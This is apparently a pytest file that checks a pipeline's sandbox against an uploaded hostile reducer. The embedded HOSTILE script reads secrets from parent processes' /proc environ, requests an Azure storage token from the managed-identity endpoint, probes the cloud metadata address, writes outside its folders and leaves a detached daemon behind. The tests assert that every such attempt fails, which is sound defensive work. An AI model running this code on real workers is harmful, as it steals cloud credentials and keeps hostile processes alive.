"""A hostile program uploaded as a reducer, run by a real worker process whose environment
holds what a worker in Azure holds (the storage connection, and the managed identity's
endpoint and header, as Container Apps sets IDENTITY_ENDPOINT / IDENTITY_HEADER). On one tile
it looks for secrets (its environment, its ancestors' through /proc), calls the identity
endpoint it found, tries the network, writes outside its folders and leaves a process behind
in a session of its own; on the other it sleeps on after its job is cancelled (its attempt
revoked). What must hold: it gets nothing and leaves nothing.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from bagpipe.manage import pack
from pipeline.lifecycle import jobs, tasks
from pipeline.reduction import bundles, sandbox
from pipeline.settings import Settings
from pipeline.storage.clients import Clients
from pipeline.web.api import create_app
from tests.conftest import make_user, parts, running_control, signed, wait_for
from tests.test_bundles import GZIP
from tests.test_reduction import GRID, SPAN

IDENTITY_HEADER = "identity-header-secret-0123456789"
SLEEPER_WEST = -108.0  # the target tile whose program sleeps past its revocation
HOSTILE = r"""
import json, os, socket, subprocess, sys, time, urllib.request
task = json.load(open(sys.argv[1]))
here, mark, out = sys.argv[2], sys.argv[3], task["outputs_dir"]
daemon = [sys.executable, "-c", "import time; time.sleep(300)", mark, "daemon"]
quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
if float(task["bounds"].split(",")[0]) >= task["args"]["sleeper_west"]:
    subprocess.Popen(daemon, start_new_session=True, **quiet)
    time.sleep(600)  # past its job's cancellation; then it would write where it should not
    open(f"/tmp/hostile-late-{mark}", "w").write("still here")
    sys.exit(0)
report = {"env": dict(os.environ), "found": {}, "calls": {}, "writes": {}}
pid = os.getppid()
while pid > 1:
    try:
        for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            key, _, value = item.decode(errors="replace").partition("=")
            if key.startswith(("IDENTITY_", "Bagpipe", "AZURE_", "MSI_")):
                report["found"][key] = value
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
found = report["found"]
if "IDENTITY_ENDPOINT" in found:
    request = urllib.request.Request(found["IDENTITY_ENDPOINT"] + "?resource=https://storage.azure.com/",
                                     headers={"X-IDENTITY-HEADER": found.get("IDENTITY_HEADER", "")})
    try:
        report["calls"]["identity"] = urllib.request.urlopen(request, timeout=3).read().decode()
    except Exception as exc:
        report["calls"]["identity"] = repr(exc)
for name, address in (("imds", ("169.254.169.254", 80)), ("loopback", ("127.0.0.1", int(task["args"]["port"])))):
    try:
        socket.create_connection(address, timeout=2).close()
        report["calls"][name] = "connected"
    except OSError as exc:
        report["calls"][name] = repr(exc)
for target in (os.path.join(here, "evil"), os.path.join(os.path.dirname(here), "evil"),
               os.path.join(task["inputs_dir"], "evil"), os.path.join(out, "..", "evil"), f"/tmp/hostile-{mark}"):
    try:
        open(target, "w").write("x")
        report["writes"][target] = "written"
    except OSError as exc:
        report["writes"][target] = type(exc).__name__
subprocess.Popen(daemon, start_new_session=True, **quiet)
json.dump(report, open(os.path.join(out, "report.json"), "w"))
"""


class IdentityEndpoint(BaseHTTPRequestHandler):
    """The managed identity's token endpoint as Container Apps serves it to a worker: it
    keeps every request, and answers a token to one that has the header."""

    calls: list[str] = []

    def do_GET(self) -> None:
        self.calls.append(self.path)
        ok = self.headers.get("X-IDENTITY-HEADER") == IDENTITY_HEADER
        self.send_response(200 if ok else 401)
        self.end_headers()
        self.wfile.write(b'{"access_token": "a-storage-token"}' if ok else b"{}")

    def log_message(self, *_: object) -> None:
        pass


def running(mark: str, also: str = "hostile.py") -> dict[int, str]:
    """Processes whose command line carries this run's mark (and ``also``), by pid."""
    found = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if mark in line and also in line:
                found[int(entry.name)] = line
    return found


@pytest.fixture(scope="module")
def run(azurite: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One job with the hostile reducer on two tiles; what it left, and what was seen."""
    tmp = tmp_path_factory.mktemp("hostile")
    mark = f"hostile-mark-{os.getpid()}-{time.monotonic_ns()}"
    identity = ThreadingHTTPServer(("127.0.0.1", 0), IdentityEndpoint)
    threading.Thread(target=identity.serve_forever, daemon=True).start()
    folder = tmp / "hostile"
    folder.mkdir()
    (folder / "hostile.py").write_text(HOSTILE)
    (folder / "reducer.json").write_text(json.dumps({
        "name": "hostile", "argv": ["{python}", "{here}/hostile.py", "{task}", "{here}", mark],
        "outputs": ["*.json"], "timeout_s": 900, "limits": {"processes": 64}}))
    seen: dict[str, Any] = {"mark": mark, "cache": tmp / "cache"}
    settings = Settings(storage_connection=azurite.connection_string, namespace="hostile", lease_seconds=6,
                        tile_stage="fault_tile", stage_modules="tests.harness.fault_stage", kill_grace_s=1.0,
                        bundle_cache=str(tmp / "cache"))
    clients = Clients(settings)
    clients.ensure_resources()
    token = make_user(clients, "mallory")
    env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG")} | settings.to_env() | {
        "IDENTITY_ENDPOINT": f"http://127.0.0.1:{identity.server_port}/msi/token",
        "IDENTITY_HEADER": IDENTITY_HEADER, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    worker = subprocess.Popen([sys.executable, "-m", "bagpipe.cli", "worker", "--slots", "2"], env=env,
                              stdout=subprocess.DEVNULL, stderr=open(tmp / "worker.log", "wb"))
    try:
        with TestClient(create_app(settings)) as api, running_control(settings):
            pushed = api.post("/api/reducers", content=pack(folder), headers=signed(token) | GZIP)
            assert pushed.status_code == 201, pushed.text
            seen["digest"] = pushed.json()["digest"]
            body = {"region": {"bbox": [-109.0, 35.2, -107.5, 35.8]}, "grid": GRID, **SPAN, "products": ["MOD10A2"],
                    "reducer": {"name": "hostile", "args": {"sleeper_west": SLEEPER_WEST, "port":
                                                             azurite.blob_port}}}
            job = api.post("/api/jobs", json=body, headers=signed(token)).json()["job"]
            seen["job"] = job

            def reductions() -> dict[str, tasks.TaskRow]:
                rows = [r for r in tasks.list_tasks(clients.tasks, parts(clients, job)) if r.stage == "reduce"]
                return {("sleeper" if float(r.parameters()["bounds"].split(",")[0]) >= SLEEPER_WEST
                         else "prober"): r for r in rows}

            wait_for(lambda: "prober" in reductions() and reductions()["prober"].status in ("SUCCEEDED", "DEAD"), 240,
                     "the prober")
            wait_for(lambda: running(mark) and reductions()["sleeper"].status == "RUNNING", 120,
                     "the sleeper to run")
            seen["prober"] = reductions()["prober"]
            assert api.post(f"/api/jobs/{job}/cancel", headers=signed(token)).status_code == 202
            wait_for(lambda: jobs.get(clients, job).state == "CANCELLED", 60, "the cancellation")
            revoked = time.monotonic()
            while time.monotonic() - revoked < 10 and running(mark):
                time.sleep(0.2)
            seen["left"] = running(mark, "")
            outputs = seen["prober"].output_names()
            seen["report"] = json.loads(clients.products.download_blob(outputs[0]).readall()) if outputs else None
            seen["identity_calls"] = list(IdentityEndpoint.calls)
            seen["written"] = [b.name for b in clients.products.list_blobs()]
        yield seen
    finally:
        for pid in running(mark, ""):  # what the hostile program left behind: ours to end
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        worker.send_signal(signal.SIGTERM)
        try:
            worker.wait(60)
        except subprocess.TimeoutExpired:
            worker.kill()
        identity.shutdown()
        for leftover in Path("/tmp").glob(f"hostile*{mark}"):
            leftover.unlink()


def test_its_own_environment_holds_no_secret(run: dict[str, Any]) -> None:
    report = run["report"]
    assert report is not None, "the prober ran and reported"
    secret = ("IDENTITY_", "Bagpipe", "AZURE_", "MSI_", "APPLICATIONINSIGHTS")
    leaked = [k for k in report["env"] if k.startswith(secret) or (k.startswith("BAGPIPE_") and k != "BAGPIPE_TASK")]
    assert leaked == []
    assert IDENTITY_HEADER not in json.dumps(report["env"]) and "AccountKey" not in json.dumps(report["env"])


@pytest.mark.skipif(sandbox.landlock_abi() == 0, reason="needs Landlock")
def test_it_writes_nowhere_but_its_output_folder(run: dict[str, Any]) -> None:
    writes = run["report"]["writes"]
    assert len(writes) == 5 and set(writes.values()) == {"PermissionError"}, writes
    assert not list(Path("/tmp").glob(f"hostile*{run['mark']}"))
    # its bundle in the worker's cache is as it was fetched: read-only, nothing added
    here = run["cache"] / run["digest"]
    assert sorted(p.name for p in here.iterdir()) == ["hostile.py", "reducer.json"]
    assert bundles.digest_of(here) == run["digest"]
    assert not (run["cache"] / "evil").exists()


def test_nothing_it_wrote_but_its_outputs_is_published(run: dict[str, Any]) -> None:
    job = run["job"]
    assert all(name.startswith(f"{job}/") for name in run["written"])
    assert [n.rsplit("/", 1)[-1] for n in run["written"] if "/tasks/" in n] == ["report.json"]


def test_it_cannot_read_the_worker_s_environment_through_proc(run: dict[str, Any]) -> None:
    assert run["report"]["found"] == {}


def test_it_cannot_reach_the_identity_endpoint_or_the_network(run: dict[str, Any]) -> None:
    assert run["identity_calls"] == []
    calls = run["report"]["calls"]
    assert "connected" not in calls.values() and "access_token" not in json.dumps(calls)


def test_it_leaves_no_process_behind_and_dies_with_its_revoked_attempt(run: dict[str, Any]) -> None:
    assert run["left"] == {}
    assert not Path(f"/tmp/hostile-late-{run['mark']}").exists()
